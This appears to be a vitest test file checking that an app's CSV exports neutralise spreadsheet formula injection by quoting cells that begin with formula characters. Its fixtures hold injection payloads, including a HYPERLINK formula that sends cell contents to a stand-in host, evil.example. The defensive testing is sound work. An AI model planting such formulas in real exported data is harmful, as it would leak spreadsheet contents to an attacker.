import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { parseCsv, runCli } from '../../cli/test-support';
import { runFindings, storedFindingParams } from '../findings';
import { withZip } from '../formats/zip';
import { annotate } from '../services/annotations';
import { exportSessionsCsv } from '../services/export-service';
import { importFile } from '../services/import-run';
import { accessPair, networkLine } from '../testing/apr-fixture';
import { tempCase, type TempCase } from '../testing/temp-case';
import { installationKey } from './signing-key';
import { exportWithComparison } from './testing/export-comparison';

/** What a spreadsheet reads as the start of a formula. */
const LIVE_FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/u;
/** The only cells allowed to start with a sign: numbers, and UTC offsets such as -05:00. */
const SIGNED_VALUE = /^(-?\d+(\.\d+)?(e[+-]\d+)?|[+-]\d\d:\d\d)$/;

const EVIL_APP = '=HYPERLINK("http://evil.example/?"&A1,"open")';
const TAB_APP = '\tcom.tab.app';
const DAY0 = Date.UTC(2024, 4, 1);
const HOUR = 3_600_000;
// The device's clock is 5 hours behind UTC: its offsets start with a minus sign.
const OFFSET = -300;

let t: TempCase;
beforeEach(async () => {
  t = tempCase();
  t.session.db
    .prepare('UPDATE devices SET label = ? WHERE id = ?')
    .run('-Phone of "A"', t.deviceId);
  const lines = [
    ...accessPair({
      app: EVIL_APP,
      category: 'photos',
      id: '=ID1',
      ms: DAY0 + 6 * HOUR,
      durationMs: 5000,
      offsetMin: OFFSET,
    }),
    ...accessPair({
      app: TAB_APP,
      category: 'camera',
      id: '+ID2',
      ms: DAY0 + 30 * HOUR,
      durationMs: 1000,
      offsetMin: OFFSET,
    }),
    networkLine({
      app: EVIL_APP,
      domain: '+evil.example',
      domainOwner: '@SUM(1+1)',
      context: '-2+3',
      initiatedType: '\rAppInitiated',
      firstMs: DAY0,
      lastMs: DAY0 + HOUR,
      offsetMin: OFFSET,
    }),
  ];
  // The source's file name starts with a formula character too.
  await importFile({
    db: t.session.db,
    path: t.write('=cmd.ndjson', lines),
    deviceId: t.deviceId,
  });
  t.session.db
    .prepare('UPDATE apps SET display_name = ? WHERE identifier = ?')
    .run('@Evil Name', EVIL_APP);
  const finding = runFindings(t.session.db, {}, storedFindingParams(t.session.db)).find(
    (f) => f.app === EVIL_APP,
  );
  expect(finding, 'a finding about the hostile app').toBeDefined();
  annotate(t.session.db, { target: finding!.id, addTags: ['=tag'], note: '+1+1' });
});
afterEach(() => t.cleanup());

/** Checks every cell of a CSV; returns the rows keyed by header for further checks. */
function checkCsv(name: string, text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  expect(rows.length, `${name} has rows`).toBeGreaterThan(0);
  for (const row of rows)
    row.forEach((cell, i) => {
      if (LIVE_FORMULA.test(cell))
        expect(cell, `${name} ${header![i]}: a live formula`).toMatch(SIGNED_VALUE);
    });
  return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i] ?? ''])));
}

describe('CSV formula injection', () => {
  it('no CSV the bundle, the app or the CLI writes holds a live formula; values keep their sign', async () => {
    const key = installationKey(join(t.dir, 'user'));
    const out = join(t.dir, 'b.zip');
    const comparison = {
      columns: [
        { label: '=A', deviceId: t.deviceId, to: '2024-05-02' },
        { label: '@B', deviceId: t.deviceId, from: '2024-05-02' },
      ],
    };
    await exportWithComparison(t.session, { out, key, comparison });
    const csvs = new Map<string, string>();
    await withZip(out, async (zip) => {
      for (const e of zip.entries)
        if (e.name.endsWith('.csv'))
          csvs.set(e.name, Buffer.from(await zip.readEntry(e)).toString('utf8'));
    });
    expect([...csvs.keys()].sort()).toEqual([
      'annotations.csv',
      'comparison-columns.csv',
      'comparison.csv',
      'events.csv',
      'findings.csv',
      'network.csv',
    ]);
    const checked = new Map([...csvs].map(([name, text]) => [name, checkCsv(name, text)]));

    // The hostile texts are all there, each behind one quote.
    const events = checked.get('events.csv')!;
    expect(events.map((r) => r.app).sort()).toEqual([`'${TAB_APP}`, `'${EVIL_APP}`].sort());
    expect(events.find((r) => r.app === `'${EVIL_APP}`)).toMatchObject({
      id: 's:1:=ID1',
      device: `'-Phone of "A"`,
      app_name: "'@Evil Name",
      start_local: '2024-05-01T01:00:00.000-05:00',
    });
    expect(checked.get('network.csv')![0]).toMatchObject({
      domain: "'+evil.example",
      domain_owner: "'@SUM(1+1)",
      context: "'-2+3",
      initiated_type: "'\rAppInitiated",
      hits: '1',
    });
    const finding = checked.get('findings.csv')!.find((r) => r.app === `'${EVIL_APP}`)!;
    expect(finding.title).toMatch(/^'@Evil Name /);
    expect(finding.evidence_locations).toContain('=cmd.ndjson line 1');
    expect(checked.get('annotations.csv')![0]).toMatchObject({ tags: "'=tag", note: "'+1+1" });
    expect(checked.get('comparison.csv')!.map((r) => r.column)).toContain("'=A");
    // Value columns are never quoted: the offset keeps its minus sign as the first character.
    expect(checked.get('comparison-columns.csv')!.map((r) => r.local_day_offset)).toEqual([
      '-05:00',
      '-05:00',
    ]);

    // The app's sessions CSV.
    const csvPath = join(t.dir, 'sessions.csv');
    exportSessionsCsv(t.session, { filter: {}, path: csvPath, version: '1' });
    const sessions = checkCsv('sessions.csv', readFileSync(csvPath, 'utf8'));
    expect(sessions.map((r) => r.app).sort()).toEqual([`'${TAB_APP}`, `'${EVIL_APP}`].sort());
    // Its sidecar tells a reader which columns are values and how to undo the guard.
    const sidecar = JSON.parse(readFileSync(`${csvPath}.json`, 'utf8')) as {
      valueColumns: string[];
      formulaGuard: string;
    };
    expect(sidecar.valueColumns).toContain('duration_seconds');
    expect(sidecar.valueColumns).not.toContain('app');
    expect(sidecar.formulaGuard).toMatch(/remove one leading ' /);

    // The CLI's events CSV, every kind.
    const r = await runCli(['events', t.session.path, '--kind', 'all', '--format', 'csv']);
    expect(r.code, r.stderr).toBe(0);
    const cli = checkCsv('events --format csv', r.stdout);
    expect(cli.map((row) => row.app)).toContain(`'${EVIL_APP}`);
    expect(cli.find((row) => row.kind === 'network')).toMatchObject({
      domain: "'+evil.example",
      domainOwner: "'@SUM(1+1)",
      context: "'-2+3",
      hits: '1',
    });
  });
});
